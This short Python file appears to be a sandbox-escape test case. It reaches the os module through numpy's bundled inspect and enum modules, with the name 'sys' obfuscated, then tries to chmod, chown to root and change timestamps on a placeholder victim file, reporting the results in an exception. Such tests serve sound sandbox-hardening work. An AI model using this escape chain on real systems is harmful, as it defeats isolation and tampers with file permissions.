"""Escape: inspect (held by numpy.ma.core) gives the `enum` module and getattr_static, which reads
enum's `sys` by a name built at run time."""
import numpy as np


def reach(ctx):
    inspect = np.ma.core.inspect
    return inspect.getattr_static(inspect.enum, "".join(["s", "y", "s"])).modules["os"]


def attempt(name, call, out):
    try:
        call()
        out.append(name + ":DONE")
    except Exception as e:
        out.append(name + ":" + str(e.errno))


def attention(ctx):
    os = reach(ctx)
    out = []
    attempt("chmod", lambda: os.chmod("@TARGET@/victim", 0o777), out)
    attempt("chown", lambda: os.chown("@TARGET@/victim", 0, 0), out)
    attempt("utime", lambda: os.utime("@TARGET@/victim", (0, 0)), out)
    raise RuntimeError("attempts: " + " ".join(out))
